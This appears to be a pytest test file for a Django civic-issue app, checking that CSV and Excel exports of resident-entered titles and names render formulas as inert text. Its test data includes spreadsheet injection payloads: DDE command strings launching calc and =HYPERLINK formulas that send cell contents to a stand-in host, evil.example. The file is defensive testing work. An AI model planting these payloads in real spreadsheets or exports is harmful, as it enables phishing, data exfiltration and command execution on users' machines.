"""What residents type ends up in the spreadsheets staff download; no cell of an export is a
formula Excel would run (=HYPERLINK to a phishing page, =cmd|' /C calc'!A0, @SUM...)."""

import csv
import io
import uuid

import openpyxl
import pytest
from django.urls import reverse

from communities import services as community_services
from communities.exports import inert
from deliberation import services
from tests.hostile import registry

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_issue_title_that_is_a_formula_is_exported_as_text(
    client, tree, people, categories, formula
):
    registry.tried("exports: formula in an issue title")
    issue = services.submit_issue(
        title=formula,
        description="路灯坏了",
        category=categories["lamp"],
        area=tree.B1,
        reporter=people.resident,
        submission_key=uuid.uuid4(),
    )
    client.force_login(people.street_staff)

    response = client.get(reverse("deliberation:staff_queue"), {"format": "csv"})

    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]
    assert issue.title.startswith(("=", "+", "-", "@"))  # the service keeps what was typed
    assert f"'{issue.title}" in cells
    assert issue.title not in cells


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("+86 138-1234-5678", "+86 138-1234-5678"),
        ("-12.5", "-12.5"),
        ("=1+1", "'=1+1"),
        ("@me", "'@me"),
        ("普通文字", "普通文字"),
        (42, 42),
    ],
)
def test_plain_numbers_stay_as_they_are_and_formulas_become_text(value, shown):
    assert inert(value) == shown


def test_a_residents_name_that_is_a_formula_is_text_in_the_workbook_and_imports_back(
    client, tree, people, households
):
    registry.tried("exports: formula in a resident's name", 2)
    people.resident.full_name = '=HYPERLINK("http://evil.example","x")'
    people.resident.save(update_fields=["full_name"])
    community_services.set_mobile_number(user=people.resident, raw_phone="13812345678")
    client.force_login(people.community_staff)

    workbook = client.get(reverse("communities:area_export", args=["C1", "residents", "xlsx"]))
    table = client.get(reverse("communities:area_export", args=["C1", "residents", "csv"]))

    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    name = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert name.data_type == "s", "a string, not a formula"
    assert name.value == people.resident.full_name
    lines = table.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in lines
    assert "13812345678" in lines or "138****5678" in lines
